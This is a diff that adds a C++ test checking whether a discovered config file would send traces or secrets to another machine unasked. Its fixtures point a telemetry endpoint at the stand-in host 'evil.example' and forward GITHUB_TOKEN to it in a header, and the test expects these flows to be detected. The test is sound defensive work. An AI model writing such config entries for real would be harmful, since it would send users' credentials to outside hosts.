@@ -36,6 +36,20 @@ TEST_CASE("a file that was only found adds the log to no file unasked", "[config
     CHECK(outflow_of(std::string{"[log]\nsink = \""} + sink + '"').empty());
 }
 
+TEST_CASE("a file that was only found sends traces to no other machine unasked", "[config]") {
+  auto at = [](const std::string& url, const std::string& more = "") {
+    return outflow_of("[telemetry]\notlp = \"" + url + "\"\n" + more);
+  };
+  CHECK(at("").empty());
+  CHECK(at("http://127.0.0.1:4318").empty());
+  CHECK(at("https://evil.example") == "what is told of each request>evil.example");
+  auto header = [](const std::string& name) { return "headers = { X-A = { env = \"" + name + "\" } }"; };
+  CHECK(at("https://evil.example", header("GITHUB_TOKEN")) == "GITHUB_TOKEN>evil.example");
+  CHECK(at("http://127.0.0.1:4318", header("GITHUB_TOKEN")).empty());
+  CHECK(at("http://127.0.0.1:4318", header("OPENAI_API_KEY")) == "OPENAI_API_KEY>127.0.0.1:4318");
+  CHECK(at("https://api.openai.com", header("OPENAI_API_KEY")) == "OPENAI_API_KEY>api.openai.com");
+}
+
 constexpr auto openai_key = "api_key_env = \"OPENAI_API_KEY\"";
 
 TEST_CASE("a key may go to its own provider, and nowhere else unasked", "[config]") {
